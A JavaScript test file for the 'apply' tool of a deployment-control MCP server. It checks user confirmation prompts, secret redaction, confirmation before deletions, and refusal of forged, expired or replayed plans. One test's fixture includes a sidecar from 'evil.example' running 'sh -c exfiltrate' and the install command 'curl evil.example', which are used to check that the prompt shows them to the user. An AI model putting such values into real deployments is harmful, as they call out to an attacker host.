// `apply` of `deployment-control mcp`: what it asks, of whom, and what it refuses.
import assert from 'node:assert/strict';
import { describe, it, mock, test } from 'node:test';
import { connect, ERAS, headOf } from '../../../support/command/mcp.mjs';
import { emulator, form } from '../../../support/service/service.mjs';

const WRITES = ['--allow-writes'];
const image = (version) => ({ source_revision_config: { image_uri: `registry.example/agent:${version}` } });
const fleet = (deployments, name = 'team') => JSON.stringify({ name, deployments });

/** A user who answers what they are asked, and what they were asked. */
function user(content, action = 'accept') {
  const asked = [];
  const answer = (params) => {
    asked.push(params);
    return { action, content: typeof content === 'function' ? content(params) : content };
  };
  return { asked, answer };
}

const service = await emulator();

const names = async () =>
  JSON.parse((await service.run(['list', '--json'])).out)
    .map(({ name }) => name)
    .sort();

/** Plans a text, and applies it. */
async function planned(mcp, text, more = {}) {
  const plan = await mcp.call('plan', { text, ...more });
  assert.equal(plan.isError, false, plan.text);
  const { plan: id, hash } = headOf(plan.text);
  return { plan, given: { plan: id, hash } };
}

for (const era of Object.keys(ERAS))
  describe(`in the era of ${era}`, () => {
    it('does what the user has agreed to, and asks in the words of the plan', async () => {
      const { asked, answer } = user({ confirm: true });
      const env = { ...service.env, NEW: 's3cret-of-the-environment' };
      const mcp = await connect([...WRITES, '--secret', 'NEW'], { env, era, answer });
      const name = `agreed-${era}`;
      const { given, plan } = await planned(mcp, fleet([form(name, { secrets: [{ name: 'TOKEN', env: 'NEW' }] })]));
      const { text, isError } = await mcp.call('apply', given);
      assert.equal(isError, false, text);
      assert.match(text, new RegExp(`^applied: all of the plan\n[\\s\\S]*${name}: created, revision `));
      assert.equal(asked.length, 1);
      const [{ message, requestedSchema }] = asked;
      assert.match(message, new RegExp(`^Make 1 change, at ${service.url}/?\\?\n\\+ ${name}: create\n`));
      assert.ok(
        message.includes(`\nValues of secrets are sent from the variable NEW for TOKEN of ${name}.\n`),
        message,
      );
      assert.ok(message.includes(`(${given.plan}, ${given.hash.slice(0, 12)})`));
      assert.deepEqual(requestedSchema.required, ['confirm']);
      for (const shown of [message, text, plan.text]) assert.doesNotMatch(shown, /s3cret/);
      assert.ok((await names()).includes(name));
      assert.equal((await mcp.call('apply', given)).failure.code, 'plan_unknown', 'a plan is applied once');
      await mcp.close();
    });

    it('changes nothing where the user does not agree', async () => {
      for (const [content, action] of [
        [{ confirm: false }, 'accept'],
        [{ confirm: 'true' }, 'accept'],
        [{}, 'accept'],
        [undefined, 'decline'],
        [{ confirm: true }, 'decline'],
        [undefined, 'cancel'],
      ]) {
        const { answer } = user(content, action);
        const mcp = await connect(WRITES, { env: service.env, era, answer });
        const { given } = await planned(mcp, fleet([form('refused')]));
        assert.ok((await mcp.call('apply', given)).isError, `${action} ${JSON.stringify(content)}`);
        assert.ok(!(await names()).includes('refused'));
        await mcp.close();
      }
    });

    it('changes nothing where the client cannot ask, and says what the user runs', async () => {
      const mcp = await connect(WRITES, { env: service.env, era });
      const { given } = await planned(mcp, fleet([form('refused')]));
      const { failure } = await mcp.call('apply', { ...given, confirm: true });
      assert.equal(failure.code, 'arguments', 'no argument stands for the user');
      const refused = await mcp.call('apply', given);
      assert.equal(refused.failure.code, 'cannot_ask');
      assert.match(refused.failure.next, /The user runs it by hand: deployment-control apply FILE/);
      assert.ok(!(await names()).includes('refused'));
      await mcp.close();
    });

    it('goes back to an earlier revision', async () => {
      const name = `back-${era}`;
      for (const version of [1, 2]) {
        await service.run(['deploy', '-'], { input: form(name, image(version)) });
        await service.advance();
      }
      const { answer } = user({ confirm: true });
      const mcp = await connect(WRITES, { env: service.env, era, answer });
      const ids = [...(await mcp.call('revisions_list', { deployment: name })).text.matchAll(/^(\S{36}) /gm)].map(
        ([, id]) => id,
      );
      const plan = await mcp.call('rollback_plan', { deployment: name, revision: ids[1] });
      assert.match(plan.text, /image_uri: registry.example\/agent:2 -> registry.example\/agent:1$/m);
      const { plan: id, hash } = headOf(plan.text);
      const { text } = await mcp.call('apply', { plan: id, hash });
      assert.match(text, /^applied: the rollback\n/);
      assert.match(
        (await mcp.call('deployment_get', { deployment: name })).text,
        /^image_uri: registry.example\/agent:1$/m,
      );
      await mcp.close();
    });
  });

test('nothing is deleted but with --allow-prune and the name of the fleet', async () => {
  const kept = fleet([form('kept')], 'pruned');
  const both = user({ confirm: true });
  const first = await connect(WRITES, { env: service.env, answer: both.answer });
  const { given } = await planned(first, fleet([form('kept'), form('gone')], 'pruned'));
  assert.equal((await first.call('apply', given)).isError, false);
  assert.equal((await first.call('plan', { text: kept, prune: true })).failure.code, 'arguments');
  await first.close();
  for (const [name, isDeleted] of Object.entries({ '': false, Pruned: false, gone: false, pruned: true })) {
    const { asked, answer } = user({ name, confirm: true });
    const mcp = await connect([...WRITES, '--allow-prune'], { env: service.env, answer });
    const pruning = await planned(mcp, kept, { prune: true });
    assert.match(pruning.plan.text, /^- gone: DELETE$/m);
    const { isError, text } = await mcp.call('apply', pruning.given);
    assert.equal(isError, !isDeleted, text);
    assert.match(asked[0].message, /1 DELETION that cannot be undone.*\n- gone: DELETE\n/);
    assert.deepEqual(asked[0].requestedSchema.required, ['name']);
    await service.advance();
    assert.equal((await names()).includes('gone'), !isDeleted, `typed "${name}"`);
    await mcp.close();
  }
});

test('a plan is refused that is another one, too old, or out of date', async (t) => {
  const { asked, answer } = user({ confirm: true });
  const mcp = await connect(WRITES, { env: service.env, answer });
  await service.run(['deploy', '-'], { input: form('moving', image(1)) });
  await service.advance();
  const text = JSON.stringify({ deployments: [form('moving', image(2))] });
  const { given } = await planned(mcp, text);
  assert.equal((await mcp.call('apply', { ...given, hash: given.hash.replace(/^./, 'x') })).failure.code, 'plan_hash');
  assert.equal((await mcp.call('apply', { ...given, plan: 'plan-0000000000' })).failure.code, 'plan_unknown');
  await service.run(['deploy', '-'], { input: form('moving', image(3)) });
  await service.advance();
  const changed = await mcp.call('apply', given);
  assert.deepEqual([changed.failure.code, changed.failure.candidates], ['changed', ['moving']]);
  const again = await planned(mcp, text);
  t.after(() => mock.timers.reset());
  mock.timers.enable({ apis: ['Date'], now: Date.now() + 15 * 60_000 + 1_000 });
  assert.equal((await mcp.call('apply', again.given)).failure.code, 'plan_expired');
  mock.timers.reset();
  assert.equal(asked.length, 0, 'nobody is asked about a plan that is refused');
  await mcp.close();
});

test('a plan is carried out once, however many calls ask for it at the same time', async () => {
  await service.run(['deploy', '-'], { input: form('twice', image(1)) });
  await service.advance();
  const questions = [];
  const answer = () =>
    new Promise((agree) => {
      questions.push(() => agree({ action: 'accept', content: { confirm: true } }));
      if (questions.length === 2) for (const say of questions) say();
    });
  const mcp = await connect(WRITES, { env: service.env, answer });
  const { given } = await planned(mcp, JSON.stringify({ deployments: [form('twice', image(2))] }));
  const calls = await Promise.all([mcp.call('apply', given), mcp.call('apply', given)]);
  assert.deepEqual(calls.map(({ isError }) => isError).sort(), [false, true], calls.map(({ text }) => text).join('\n'));
  const { failure } = calls.find(({ isError }) => isError);
  assert.ok(['plan_unknown', 'changed'].includes(failure.code), failure.code);
  const revisions = await mcp.call('revisions_list', { deployment: 'twice' });
  assert.equal([...revisions.text.matchAll(/^\S{36} /gm)].length, 2);
  await mcp.close();
});

test('a question shows all that is agreed to, whatever the values of secrets are', async () => {
  const { asked, answer } = user({ confirm: true }, 'decline');
  const env = { ...service.env, WORDS: 'x=create; y=registry.example; z=change', SHORT: 'agent', WHOLE: 'source' };
  const names = ['WORDS', 'SHORT', 'WHOLE'];
  const mcp = await connect([...WRITES, ...names.flatMap((name) => ['--secret', name])], { env, answer });
  const secrets = names.map((name) => ({ name, env: name }));
  const container = {
    name: 'proxy',
    image: 'evil.example/proxy:1',
    command: ['sh', '-c', 'exfiltrate'],
    env: [{ name: 'KEY', value: 'not-to-be-shown' }],
  };
  const source_config = { resource_spec: { sidecars: [container] }, install_command: 'curl evil.example' };
  const { given } = await planned(mcp, fleet([form('shown', { secrets, source_config })]));
  await mcp.call('apply', given);
  const [{ message }] = asked;
  for (const line of [
    '+ shown: create',
    'source_revision_config.image_uri: registry.example/agent:1',
    'source_config.resource_spec.sidecars.0.image: evil.example/proxy:1',
    'source_config.resource_spec.sidecars.0.command.2: exfiltrate',
    'source_config.resource_spec.sidecars.0.env: KEY',
    'source_config.install_command: curl evil.example',
    'secrets: WORDS, SHORT, WHOLE',
  ])
    assert.ok(message.includes(line), `${line} in ${message}`);
  assert.doesNotMatch(message, /\*\*\*|not-to-be-shown/);
  await mcp.close();
});

test('nobody is asked about more than a question shows', async () => {
  const { asked, answer } = user({ confirm: true });
  const mcp = await connect(WRITES, { env: service.env, answer });
  for (const forms of [
    Array.from({ length: 40 }, (_, at) => form(`many-${at}`)),
    [form('long', { source_config: { install_command: `true ${'x'.repeat(400)}` } })],
  ]) {
    const { given } = await planned(mcp, fleet(forms));
    const { failure } = await mcp.call('apply', given);
    assert.equal(failure.code, 'too_long');
    assert.match(failure.next, /by hand: deployment-control apply FILE/);
  }
  assert.equal(asked.length, 0);
  await mcp.close();
});

test('what changes while the user thinks is refused too', async () => {
  await service.run(['deploy', '-'], { input: form('thinking', image(1)) });
  await service.advance();
  const answer = async () => {
    await service.run(['deploy', '-'], { input: form('thinking', image(3)) });
    return { action: 'accept', content: { confirm: true } };
  };
  const mcp = await connect(WRITES, { env: service.env, answer });
  const { given } = await planned(mcp, JSON.stringify({ deployments: [form('thinking', image(2))] }));
  assert.equal((await mcp.call('apply', given)).failure.code, 'changed');
  await mcp.close();
});

test('a confirmation is good for its own plan, once, and as it was signed', async () => {
  const mcp = await connect(WRITES, { env: service.env, answer: () => assert.fail('the client is not asked') });
  const [one, other] = await Promise.all([
    planned(mcp, fleet([form('signed')])),
    planned(mcp, fleet([form('swapped')])),
  ]);
  const ask = (given, more = {}) =>
    mcp.client.callTool(
      { name: 'apply', arguments: given, ...more },
      { inputRequired: { autoFulfill: false }, allowInputRequired: true },
    );
  const first = await ask(one.given);
  assert.equal(first.resultType, 'input_required');
  const inputResponses = { confirm: { action: 'accept', content: { confirm: true } } };
  const codeOf = ({ content: [{ text }] }) => /"code":"(\w+)"/.exec(text)?.[1];
  const { requestState } = first;
  const [head, body, mac] = requestState.split('.');
  const forged = Buffer.from(
    Buffer.from(body, 'base64url').toString().replace(one.given.plan, other.given.plan),
  ).toString('base64url');
  for (const [given, state] of [
    [other.given, requestState],
    [one.given, `${head}.${body}.${mac.slice(0, -4)}AAAA`],
    [other.given, `${head}.${forged}.${mac}`],
    [one.given, 'v1.e30.e30'],
    [one.given, ''],
  ])
    assert.equal(codeOf(await ask(given, { requestState: state, inputResponses })), 'confirmation', state);
  // Without the state the answer counts for nothing: the user is asked.
  assert.equal((await ask(one.given, { inputResponses })).resultType, 'input_required');
  const no = await ask(one.given, { requestState, inputResponses: { confirm: { action: 'decline' } } });
  assert.equal(codeOf(no), 'declined');
  for (const more of [{ requestState, inputResponses }, {}])
    assert.equal(codeOf(await ask(one.given, more)), 'plan_unknown', 'nobody is asked again what they have declined');
  assert.ok(!(await names()).some((name) => ['signed', 'swapped'].includes(name)));
  await mcp.close();
});

test('what fails in part is an error that names what was done', async () => {
  const { answer } = user({ confirm: true });
  const mcp = await connect(WRITES, { env: service.env, answer });
  const { given } = await planned(mcp, JSON.stringify({ deployments: [form('half-a'), form('half-b')] }));
  await service.control('inject', { match: { method: 'POST' }, times: 1, status: 409, body: { detail: 'taken' } });
  const { failure, text } = await mcp.call('apply', given);
  assert.ok(failure, text);
  assert.equal(failure.code, 'partly_applied');
  assert.equal(failure.retryable, false);
  assert.match(failure.message, /failed: half-\w/);
  await mcp.close();
});
